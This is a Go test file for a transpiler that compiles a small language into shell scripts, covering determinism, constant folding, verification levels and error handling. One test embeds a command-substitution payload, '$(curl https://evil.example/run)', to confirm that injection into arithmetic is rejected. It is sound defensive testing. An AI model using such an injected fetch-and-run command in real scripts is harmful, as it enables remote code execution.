package transpile

import (
	"strings"
	"testing"

	"shale/common"
	"shale/effects"
	"shale/validate"
	"shale/verify"
)

// --- helpers -----------------------------------------------------------------

func mustTranspile(t *testing.T, src string, cfg Config) *Result {
	t.Helper()
	res, err := Transpile(src, cfg)
	if err != nil {
		t.Fatalf("transpile error: %v\nsource:\n%s", err, src)
	}
	return res
}

// --- tests -------------------------------------------------------------------

func TestTranspileHelloWorld(t *testing.T) {
	res := mustTranspile(t, `
fn main() {
    let x = "hello";
    echo(x);
}
`, DefaultConfig())

	if !strings.HasPrefix(res.Script, "#!/bin/sh\n") {
		t.Fatalf("script must begin with a shebang:\n%s", res.Script)
	}
	if !strings.Contains(res.Script, `x="hello"`) || !strings.Contains(res.Script, `echo "$x"`) {
		t.Fatalf("unexpected script:\n%s", res.Script)
	}
	if !res.Verification.Pass() {
		t.Fatalf("hello world must verify: %v", res.Verification.Violations)
	}
}

func TestTranspileDeterministic(t *testing.T) {
	src := `
fn deploy(target: path) {
    mkdir_p(target);
    write_file(target + "/marker", "done");
}

fn main() {
    deploy("/srv/app");
    echo("deployed");
}
`

	first := mustTranspile(t, src, DefaultConfig())
	second := mustTranspile(t, src, DefaultConfig())

	if first.Script != second.Script {
		t.Fatal("repeated transpilation must be byte-identical")
	}
}

func TestTranspileFoldsConstants(t *testing.T) {
	cfg := DefaultConfig()
	res := mustTranspile(t, `
fn main() {
    let n = 1 + 2;
    echo(n);
}
`, cfg)

	if !strings.Contains(res.Script, `n="3"`) {
		t.Fatalf("want folded constant:\n%s", res.Script)
	}
	if strings.Contains(res.Script, "$((") {
		t.Fatalf("folded script must carry no arithmetic text:\n%s", res.Script)
	}

	cfg.Optimize = false
	res = mustTranspile(t, `
fn main() {
    let n = 1 + 2;
    echo(n);
}
`, cfg)

	if !strings.Contains(res.Script, `n="$((1 + 2))"`) {
		t.Fatalf("unoptimized script must keep the expression:\n%s", res.Script)
	}
}

func TestCheckAcceptsValidSource(t *testing.T) {
	err := Check(`
fn main() {
    echo("ok");
}
`)
	if err != nil {
		t.Fatalf("check error: %v", err)
	}
}

func TestCheckReportsRecursion(t *testing.T) {
	err := Check(`
fn main() {
    main();
}
`)

	verr, ok := err.(*validate.Error)
	if !ok {
		t.Fatalf("want *validate.Error, got %T: %v", err, err)
	}
	if verr.Kind != validate.RecursionDetected {
		t.Fatalf("want recursion error, got %v", verr)
	}
}

func TestVerificationReturnedAlongsideScript(t *testing.T) {
	res := mustTranspile(t, `
fn main() {
    let now = timestamp();
    echo(now);
}
`, DefaultConfig())

	if res.Script == "" {
		t.Fatal("script must be produced even when verification fails")
	}
	if res.Verification.Pass() {
		t.Fatal("timestamp() must fail strict verification")
	}

	found := false
	for _, v := range res.Verification.Violations {
		if v.Property == verify.PropDeterminism {
			found = true
		}
	}
	if !found {
		t.Fatalf("want determinism violation, got %v", res.Verification.Violations)
	}
}

func TestBasicLevelWarnsOnly(t *testing.T) {
	cfg := DefaultConfig()
	cfg.VerifyLevel = verify.LevelBasic

	res := mustTranspile(t, `
fn main() {
    let now = timestamp();
    echo(now);
}
`, cfg)

	if !res.Verification.Pass() {
		t.Fatalf("basic level must not fail on non-determinism: %v", res.Verification.Violations)
	}
	if len(res.Verification.Warnings) == 0 {
		t.Fatal("basic level must still warn")
	}
}

func TestRootEffects(t *testing.T) {
	res := mustTranspile(t, `
fn main() {
    curl("https://example.com/install");
}
`, DefaultConfig())

	if !res.Effects.Has(effects.Network) {
		t.Fatalf("want network in root effects, got %s", res.Effects)
	}
}

func TestDialectThreadsThrough(t *testing.T) {
	cfg := DefaultConfig()
	cfg.Dialect = common.DialectDash

	res := mustTranspile(t, `
fn main() {
    echo("hi");
}
`, cfg)

	if !strings.HasPrefix(res.Script, "#!/bin/dash\n") {
		t.Fatalf("dash dialect must reach the emitter:\n%s", res.Script)
	}
}

func TestErrorsShortCircuit(t *testing.T) {
	_, err := Transpile(`fn main() { let x = ; }`, DefaultConfig())
	if err == nil {
		t.Fatal("want parse error")
	}

	_, err = Transpile(`
fn main() {
    while true {
        echo("hi");
    }
}
`, DefaultConfig())
	if verr, ok := err.(*validate.Error); !ok || verr.Kind != validate.UnsupportedConstruct {
		t.Fatalf("want unsupported-construct error, got %T: %v", err, err)
	}
}

func TestArithmeticRejectsStringCarrier(t *testing.T) {
	_, err := Transpile(`
fn main() {
    let x = 1 + "$(curl https://evil.example/run)";
    echo(x);
}
`, DefaultConfig())

	if err == nil {
		t.Fatal("a string operand must not reach arithmetic position")
	}
	if !strings.Contains(err.Error(), "integer operands") {
		t.Fatalf("unexpected error: %v", err)
	}
}

func TestLeadingZeroLiteralsAgreeAcrossModes(t *testing.T) {
	src := `
fn main() {
    let n = 010 + 1;
    echo(n);
}
`

	cfg := DefaultConfig()
	res := mustTranspile(t, src, cfg)
	if !strings.Contains(res.Script, `n="11"`) {
		t.Fatalf("want the folded decimal value:\n%s", res.Script)
	}

	cfg.Optimize = false
	res = mustTranspile(t, src, cfg)
	if !strings.Contains(res.Script, `n="$((10 + 1))"`) {
		t.Fatalf("want the normalized numeral in the runtime expression:\n%s", res.Script)
	}
}
